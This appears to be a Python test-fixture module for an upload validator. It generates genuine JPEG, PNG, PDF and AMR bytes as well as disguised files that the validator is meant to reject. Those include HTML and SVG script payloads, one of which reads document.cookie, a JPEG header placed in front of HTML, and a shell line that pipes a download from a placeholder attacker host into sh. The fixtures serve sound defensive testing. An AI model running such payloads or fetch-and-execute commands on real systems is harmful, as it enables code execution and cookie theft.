"""Real files for upload tests (issue 14 item 3): uploads are checked by content, so tests send real
images and documents — and disguised ones to be refused."""
from __future__ import annotations

import io

from PIL import Image

HTML_AS_JPG = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG_AS_JPG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
SCRIPT_AS_JPG = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
JPEG_HEAD_THEN_HTML = b"\xff\xd8\xff\xe0" + HTML_AS_JPG  # looks like a JPEG to a 4-byte check only


def jpeg(size: tuple[int, int] = (640, 480), color: str = "#3a7") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "JPEG")
    return out.getvalue()


def png(size: tuple[int, int] = (64, 64)) -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", size, (0, 0, 0, 255)).save(out, "PNG")
    return out.getvalue()


def pdf() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n")


def amr() -> bytes:
    return b"#!AMR\n" + b"\x3c" * 64
